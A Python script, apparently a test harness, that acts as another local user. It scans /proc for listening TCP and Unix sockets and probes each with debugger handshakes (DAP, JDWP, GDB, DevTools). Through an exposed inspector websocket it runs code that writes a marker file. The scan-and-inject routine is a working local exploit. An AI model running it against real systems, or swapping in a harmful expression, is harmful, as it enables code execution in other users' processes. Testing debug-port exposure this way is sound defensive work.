"""Another user of the machine: sees which ports open here, calls each at once, and says what debuggers like to hear. Notes what it gets, a JSON object a line."""
import json, os, re, select, socket, sys

UID = int(sys.argv[1])
OWNED = sys.argv[2]
os.setgroups([])
os.setgid(UID)
os.setuid(UID)

WORDS = [
    b'Content-Length: 62\r\n\r\n{"seq":1,"type":"request","command":"initialize","arguments":{}}',
    b"JDWP-Handshake",
    b"+$qSupported:multiprocess+#c6",
    b"GET /json/list HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
]
CODE = "process.getBuiltinModule('fs').writeFileSync(%s, '')" % json.dumps(OWNED)
LISTENS = re.compile(r"^\s*\d+: [0-9A-F]+:([0-9A-F]{4}) \S+ 0A .*?\s\d+\s+\d+\s+(\d+) ", re.M)

calls = {}
tried = {}


def note(**what):
    print(json.dumps(what), flush=True)


def ports():
    for table, family, host in (("tcp", socket.AF_INET, "127.0.0.1"), ("tcp6", socket.AF_INET6, "::1")):
        try:
            text = open("/proc/net/" + table).read()
        except OSError:
            continue
        for match in LISTENS.finditer(text):
            yield (family, (host, int(match[1], 16)), match[2])


def unix():
    for line in open("/proc/net/unix"):
        words = line.split()
        if len(words) == 8 and words[3] == "00010000":
            name = words[7]
            yield (socket.AF_UNIX, "\0" + name[1:] if name.startswith("@") else name, words[6])


def call(family, address, words):
    one = socket.socket(family)
    one.settimeout(0.5)
    try:
        one.connect(address)
        one.sendall(words)
        one.setblocking(False)
        calls[one] = address
        note(called=str(address))
    except OSError as error:
        note(refused=str(address), why=str(error))
        one.close()


def listen(one):
    address = calls[one]
    try:
        heard = one.recv(65536)
    except BlockingIOError:
        return
    except OSError:
        heard = b""
    if not heard:
        del calls[one]
        one.close()
        note(over=str(address))
        return
    note(heard=heard.decode("latin1")[:200], at=str(address))
    found = re.search(rb'"webSocketDebuggerUrl": "ws://[^/]+(/[^"]+)"', heard)
    if found:
        key = b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
        upgrade = b"\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        call(socket.AF_INET, address, b"GET " + found[1] + b" HTTP/1.1\r\nHost: 127.0.0.1" + upgrade + key)
    if heard.startswith(b"HTTP/1.1 101"):
        message = json.dumps({"id": 1, "method": "Runtime.evaluate", "params": {"expression": CODE}}).encode()
        one.sendall(bytes([0x81, 0xFE, len(message) >> 8, len(message) & 255, 0, 0, 0, 0]) + message)


note(ready=True)
while True:
    for family, address, inode in [*ports(), *unix()]:
        count = tried.get(inode, 0)
        if count < (1 if family == socket.AF_UNIX else 2 * len(WORDS)):
            tried[inode] = count + 1
            call(family, address, WORDS[count % len(WORDS)])
    for one in select.select(list(calls), [], [], 0.0005)[0]:
        listen(one)
